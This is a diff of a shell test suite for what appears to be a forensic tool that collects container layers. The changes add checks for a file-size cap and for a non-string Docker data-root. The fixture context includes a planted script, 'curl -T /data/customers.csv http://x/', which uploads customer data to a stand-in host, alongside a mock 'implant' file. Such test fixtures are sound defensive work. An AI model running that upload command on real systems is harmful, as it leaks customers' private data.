@@ -87,6 +87,7 @@ overlay_layers() {
 	printf '#!/bin/sh\ncurl -T /data/customers.csv http://x/\n' >"$u/tmp/x.sh" &&
 	cp /bin/true "$u/tmp/implant" &&
 	echo notes >"$u/tmp/notes.txt" &&
+	{ printf "#!/bin/sh\n" && head -c 2097152 /dev/zero; } >"$u/tmp/big.sh" &&
 	mknod "$u/usr/old" c 0 0 &&
 	python3 -c 'import os, sys; os.setxattr(sys.argv[1], "trusted.overlay.opaque", b"y")' \
 	    "$u/var/lib"
@@ -154,7 +155,9 @@ if [ "$(id -u)" = 0 ]; then
 		test "$(change x1 /var/lib | jq -r .change)" = C &&
 		doc x1 | jq -e ".docker.containers[0].writable_layer |
 		    .count == (.changes | length) and .truncated == false and
-		    .kept == 2 and (.lower | map(.missing) == [false, false])" >/dev/null
+		    .kept == 2 and .not_kept == 1 and
+		    (.lower | map(.missing) == [false, false])" >/dev/null &&
+		test "$(change x1 /tmp/big.sh | jq -r .not_kept)" = "larger than the size cap"
 	'
 
 	test_expect_success 'small scripts and ELF files of the layer are kept, other files not' '
@@ -326,7 +329,10 @@ test_expect_success 'daemon.json moves the data root; a relative one is refused'
 	echo "{\"data-root\": \"../../tmp\"}" >"$TEST_TMP/r1/etc/docker/daemon.json" &&
 	collect_root "$TEST_TMP/r1" r2.tar && extract r2.tar r2x &&
 	errors_of r2x && test_grep "refused (not a plain absolute path)" errs &&
-	doc r2x | jq -e ".docker.data_root == \"/var/lib/docker\"" >/dev/null
+	doc r2x | jq -e ".docker.data_root == \"/var/lib/docker\"" >/dev/null &&
+	echo "{\"data-root\": 5}" >"$TEST_TMP/r1/etc/docker/daemon.json" &&
+	collect_root "$TEST_TMP/r1" r3.tar && extract r3.tar r3x &&
+	errors_of r3x && test_grep "data-root is not a string" errs
 '
 
 # podman_tree ROOT STORE: a containers/storage store with one container.
